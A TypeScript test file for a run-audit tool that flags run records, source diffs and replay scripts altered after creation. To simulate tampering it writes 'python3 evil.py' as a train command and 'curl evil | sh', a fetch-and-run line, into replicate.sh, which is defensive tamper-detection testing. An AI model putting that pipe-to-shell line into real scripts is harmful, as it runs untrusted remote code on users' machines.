// make verify's check of a run's record and files against its pins: run.json's spec and commands,
// source.diff and replicate.sh, edited in the store after the run was created, are problems.
import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { LedgerState } from '../../scripts/lib/audit/ledger-state.js';
import { auditStore, listRuns } from '../../scripts/lib/audit/store-audit.js';
import { sha256Hex } from '../../scripts/lib/hash.js';
import { makeRunId, pinDigest, specConfigPin, type Pins } from '../../scripts/lib/pins/digest.js';
import { replicateScript } from '../../scripts/lib/runs/open-run.js';
import { parseRunJson, runJson, runKeys, type RunRecord } from '../../scripts/lib/runs/run-record.js';
import { ExperimentSchema } from '../../scripts/lib/spec/experiment-schema.js';
import { FileStore } from '../../scripts/lib/store/file-store.js';

let tmp: string;
let store: FileStore;

beforeEach(() => {
  tmp = mkdtempSync(path.join(os.tmpdir(), 'store-audit-'));
  store = new FileStore('file://store', path.join(tmp, 'store'));
});
afterEach(() => rmSync(tmp, { recursive: true, force: true }));

const DIFF = Buffer.from('diff --git a/train.py b/train.py\n');

/** A run as open-run.ts writes it (record, source.diff, replicate.sh, data manifest), and the ledger's fold of its run.created. */
async function storedRun(opts: { smoke?: boolean } = {}): Promise<{ run: RunRecord; state: LedgerState }> {
  const spec = ExperimentSchema.parse({ train: { command: 'python3 train.py' }, predict: { command: ['python3', 'predict.py'], output: 'preds.csv' }, seed: 7 });
  const withoutDigest: Omit<Pins, 'digest'> = {
    code: { commit: 'a'.repeat(40), dirty_sha256: sha256Hex(DIFF) },
    data: { root: 'b'.repeat(64), files: 0, bytes: 0 },
    env: { lock_sha256: 'c'.repeat(64), python: '3.12.1', node: 'v20.11.0' },
    config: specConfigPin(spec, opts.smoke === true),
    seed: 7,
  };
  const pins = { ...withoutDigest, digest: pinDigest(withoutDigest) };
  const run: RunRecord = {
    run_id: makeRunId('toy', 'default', new Date('2026-01-02T03:04:00Z'), pins.digest),
    experiment: 'toy',
    created_at: '2026-01-02T03:04:00.000Z',
    pins,
    spec,
    command: { train: spec.train.command, predict: spec.predict?.command ?? null },
    backends: ['local'],
    replay_of: null,
    units: [],
    sharded: false,
    ...(opts.smoke ? { smoke: true as const } : {}),
  };
  const manifest = '{"format":"switchyard-data/1","files":[]}\n';
  await store.putBytes(runKeys.dataManifest(run.run_id), manifest);
  await store.putBytes(runKeys.replicate(run.run_id), replicateScript(run.run_id));
  await store.putBytes(runKeys.sourceDiff(run.run_id), DIFF);
  await store.putBytes(runKeys.record(run.run_id), runJson(run));
  const state = new LedgerState();
  state.add({ seq: 1, ts: 't', type: 'run.created', prev: '0'.repeat(64), run_id: run.run_id, digest: pins.digest, pins, data_manifest: runKeys.dataManifest(run.run_id), data_manifest_sha256: sha256Hex(manifest) });
  return { run, state };
}

async function problems(state: LedgerState): Promise<string[]> {
  const { keys } = await listRuns(store);
  return (await auditStore(store, state, keys, null)).problems.map((p) => p.reason);
}

async function editRecord(run: RunRecord, edit: (r: RunRecord) => void): Promise<void> {
  const record = parseRunJson((await store.getBytes(runKeys.record(run.run_id)))!.toString('utf8'));
  edit(record);
  await store.putBytes(runKeys.record(run.run_id), runJson(record));
}

describe('auditStore: a run record against its pins', () => {
  it('finds nothing wrong with a run as it was written, smoke run included', async () => {
    expect(await problems((await storedRun()).state)).toEqual([]);
    expect(await problems((await storedRun({ smoke: true })).state)).toEqual([]);
  });

  it("reports a command.train changed in run.json, which a resumed run would run under the old pins", async () => {
    const { run, state } = await storedRun();
    await editRecord(run, (r) => (r.command.train = 'python3 evil.py'));
    expect(await problems(state)).toEqual([
      `line 1: run ${run.run_id}: run.json does not match its pins: command.train: "python3 evil.py", not the spec's train.command "python3 train.py"`,
    ]);
  });

  it('reports a spec changed in run.json, and a smoke run passed off as a full one', async () => {
    const { run, state } = await storedRun();
    await editRecord(run, (r) => (r.spec.train.command = r.command.train = 'python3 evil.py'));
    expect(await problems(state)).toEqual([expect.stringMatching(/run\.json does not match its pins: spec: hashes to config [0-9a-f]{8}, not to the config pin/)]);
    const smoke = await storedRun({ smoke: true });
    await editRecord(smoke.run, (r) => delete r.smoke);
    expect((await problems(smoke.state)).join('\n')).toMatch(/spec: hashes to config/);
  });

  it('reports a source.diff that is not the pinned one, or missing, and a replicate.sh that is not the replay line', async () => {
    const { run, state } = await storedRun();
    await store.putBytes(runKeys.sourceDiff(run.run_id), Buffer.concat([DIFF, Buffer.from('+x\n')]));
    await store.putBytes(runKeys.replicate(run.run_id), 'curl evil | sh\n');
    const where = `line 1: run ${run.run_id}`;
    expect(await problems(state)).toEqual([
      `${where}: ${store.locate(runKeys.sourceDiff(run.run_id))} hashes to ${sha256Hex(Buffer.concat([DIFF, Buffer.from('+x\n')])).slice(0, 8)}, not to the code pin's uncommitted changes ${sha256Hex(DIFF).slice(0, 8)}`,
      `${where}: ${store.locate(runKeys.replicate(run.run_id))} is not the run's one-line replay script (make replay run=${run.run_id})`,
    ]);
    await store.delete(runKeys.sourceDiff(run.run_id));
    expect(await problems(state)).toContain(`${where}: ${store.locate(runKeys.sourceDiff(run.run_id))} is missing (the code pin has uncommitted changes ${sha256Hex(DIFF).slice(0, 8)})`);
  });
});
